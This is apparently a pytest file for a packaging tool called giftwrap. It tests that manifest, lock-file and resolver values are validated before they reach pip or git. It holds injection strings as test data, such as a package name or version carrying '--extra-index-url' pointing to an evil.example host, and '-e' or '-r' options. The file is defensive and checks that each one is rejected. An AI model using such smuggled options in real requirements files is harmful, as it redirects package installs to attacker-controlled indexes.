"""Names, versions, hashes and commit ids reach pip and git only if plain.

The manifest's pip_overrides and pip_exclude, a lock's commit, pins and
build tools, and a resolver's pins are checked before they are written into
a requirements or constraints file or passed to git.
"""

from __future__ import annotations

import json
import textwrap

import pytest

from giftwrap import errors
from giftwrap.trust import lockfile
from giftwrap.util import identifiers
from giftwrap.resolve.base import Pin, Pins

INJECTED = 'six\n--extra-index-url https://evil.example/simple'
COMMANDS = [('validate', '-m'), ('build', '--dry-run', '-m')]


def manifest(tmp_path, extra: str) -> str:
    path = tmp_path / 'manifest.yml'
    path.write_text(textwrap.dedent("""\
        settings: {version: '1.0', builders: [nfpm-deb]}
        projects:
          - name: nova
        """) + textwrap.indent(textwrap.dedent(extra), '    '))
    return str(path)


@pytest.mark.parametrize('kind, good, bad', [
    ('name', 'oslo.config', ['-r', 'a b', 'six\n-e x', 'x-', '', None]),
    ('version', '1!2.0.post1+local.1', ['master', '1.0\n--pre', '1.0 ',
                                        '>=1', '1.*', 3]),
    ('sha256', 'ab' * 32, ['ab' * 31, 'zz' * 32, 'ab' * 32 + '\n']),
    ('commit', 'a1' * 20, ['master', 'a1' * 19, 'HEAD', '-' + 'a' * 39]),
])
def test_rules(kind, good, bad):
    assert identifiers.is_valid(kind, good)
    for value in bad:
        assert not identifiers.is_valid(kind, value), value
        with pytest.raises(errors.ManifestError) as caught:
            identifiers.check(kind, value, 'the value', where='m.yml:3')
        assert caught.value.where == 'm.yml:3' and caught.value.hint


@pytest.mark.parametrize('command', COMMANDS)
def test_pip_overrides_key_with_an_option(cli, tmp_path, command):
    path = manifest(tmp_path, f'pip_overrides: {{{json.dumps(INJECTED)}: '
                              '"1.16.0"}\n')
    result = cli(*command, path)
    assert result.status == errors.ManifestError.exit_code, result.stderr
    assert 'pip_overrides key' in result.stderr
    assert 'is not a distribution name' in result.stderr
    assert 'manifest.yml:4' in result.stderr


@pytest.mark.parametrize('command', COMMANDS)
def test_pip_overrides_version_with_an_option(cli, tmp_path, command):
    path = manifest(tmp_path, 'pip_overrides: {six: "1.16.0\\n--pre"}\n')
    result = cli(*command, path)
    assert result.status == errors.ManifestError.exit_code, result.stderr
    assert 'is not an exact version' in result.stderr


def test_templated_pip_overrides_version(cli, tmp_path):
    path = manifest(tmp_path, 'pip_overrides: {six: "{{ project.name }}"}\n')
    result = cli('validate', '-m', path)
    assert result.status == errors.ManifestError.exit_code, result.stderr
    assert "'nova' is not an exact version" in result.stderr


def test_pip_exclude_item(cli, tmp_path):
    path = manifest(tmp_path, 'pip_exclude: ["six\\n-e ."]\n')
    result = cli('validate', '-m', path)
    assert result.status == errors.ManifestError.exit_code, result.stderr
    assert 'pip_exclude item' in result.stderr


def lock(tmp_path, **changes) -> str:
    entry = {'giturl': 'https://opendev.org/openstack/nova', 'gitref': 'master',
             'commit': 'a' * 40, 'resolver': 'requirements-file',
             'provenance': {}, 'interpreter': {},
             'pins': {'six': {'name': 'six', 'version': '1.16.0',
                              'sha256': 'b' * 64}},
             'build_tools': {'setuptools': '80.9.0'},
             'patches': [{'file': 'fix.patch', 'sha256': 'c' * 64}]}
    entry.update(changes)
    path = tmp_path / 'giftwrap.lock'
    path.write_text(json.dumps({'format': lockfile.FORMAT,
                                'projects': {'nova': entry}}))
    return str(path)


def test_good_lock_reads(tmp_path):
    entry = lockfile.read(lock(tmp_path))['nova']
    assert entry.pins['six']['sha256'] == 'b' * 64


def test_lock_pin_without_hash_reads(tmp_path):
    # the project's own pin, or an index without hashes: refused only when
    # installing in hash-checking mode
    path = lock(tmp_path, pins={'six': {'name': 'six', 'version': '1.0',
                                        'sha256': None}})
    assert lockfile.read(path)['nova'].pins['six']['sha256'] is None


@pytest.mark.parametrize('changes, message', [
    ({'commit': 'master'}, "commit 'master' is not a full commit id"),
    ({'pins': {'six': {'name': INJECTED, 'version': '1.0', 'sha256': None}}},
     "pin 'six': name"),
    ({'pins': {'six': {'name': 'six', 'version': '1.0\n--pre',
                       'sha256': None}}}, "pin 'six': version"),
    ({'pins': {'six': {'name': 'six', 'version': '1.0',
                       'sha256': 'b' * 63 + ' --hash=sha256:x'}}},
     "pin 'six': sha256"),
    ({'pins': {'six': 'six==1.0'}}, "pin 'six' is not a mapping"),
    ({'build_tools': {'setuptools': '80\n--index-url x'}},
     'build tool setuptools: version'),
    ({'build_tools': {'-r x': '1.0'}}, "build tool '-r x'"),
    ({'patches': [{'file': 'fix.patch', 'sha256': 'nope'}]}, 'patch sha256'),
    ({'build_tools': ['setuptools']}, 'cannot read the lock file'),
    ({'build_tool_hashes': {'setuptools': ['d' * 63 + '\n-r x']}},
     'build tool setuptools: sha256'),
    ({'build_tool_hashes': {'setuptools': 'd' * 64}},
     'build tool setuptools: sha256'),
    ({'build_tool_hashes': {'pbr': ['d' * 64]}},
     "build tool hashes 'pbr': not a list for a locked build tool"),
    ({'build_tool_hashes': ['setuptools']}, 'cannot read the lock file'),
])
def test_bad_lock_values(tmp_path, changes, message):
    with pytest.raises(errors.ManifestError) as caught:
        lockfile.read(lock(tmp_path, **changes))
    assert message in str(caught.value)
    assert 'project nova' in str(caught.value) or \
        'cannot read' in str(caught.value)


def test_dry_run_checks_the_lock(cli, tmp_path):
    path = manifest(tmp_path, '')
    result = cli('build', '--dry-run', '--lock', lock(tmp_path, commit='master'),
                 '-m', path)
    assert result.status == errors.ManifestError.exit_code, result.stderr
    assert 'not a full commit id' in result.stderr
    assert 'Traceback' not in result.stderr


def test_resolver_pins_are_checked_when_written():
    # whatever a resolver read (an HTTP answer, a CI log), it is no option
    pins = Pins.of([Pin('six', '1.0\n--extra-index-url=http://evil')])
    with pytest.raises(errors.ResolveError) as caught:
        pins.constraints_text()
    assert "the pin 'six': version" in str(caught.value)
    with pytest.raises(errors.ResolveError):
        Pin('six', '1.0', 'x' * 64).line(hashed=True)
    assert Pin('six', '1.0', 'a' * 64).line(hashed=True) == \
        f'six==1.0 --hash=sha256:{"a" * 64}\n'


def test_build_tool_hashes_round_trip(tmp_path):
    path = lock(tmp_path, build_tool_hashes={'setuptools': ['d' * 64,
                                                            'e' * 64]})
    entry = lockfile.read(path)['nova']
    assert entry.build_tool_hashes == {'setuptools': ('d' * 64, 'e' * 64)}
    assert entry.to_json()['build_tool_hashes'] == {
        'setuptools': ['d' * 64, 'e' * 64]}


def test_a_format_1_lock_still_loads(tmp_path):
    """Locks written before build tools had hashes: their build tools are
    checked by version only."""
    path = tmp_path / 'giftwrap.lock'
    entry = json.loads(open(lock(tmp_path)).read())['projects']['nova']
    path.write_text(json.dumps({'format': 1, 'projects': {'nova': entry}}))
    loaded = lockfile.read(path)['nova']
    assert loaded.build_tools == {'setuptools': '80.9.0'}
    assert loaded.build_tool_hashes == {}
    lockfile.merge(path, {})
    lockfile.merge(path, {'nova': loaded})
    assert json.loads(path.read_text())['format'] == lockfile.FORMAT == 2


def test_an_unknown_lock_format_says_which_it_reads(tmp_path):
    path = tmp_path / 'giftwrap.lock'
    path.write_text(json.dumps({'format': 3, 'projects': {}}))
    with pytest.raises(errors.ManifestError) as caught:
        lockfile.read(path)
    assert 'unknown lock format 3 (this giftwrap reads formats 1, 2)' in \
        str(caught.value)
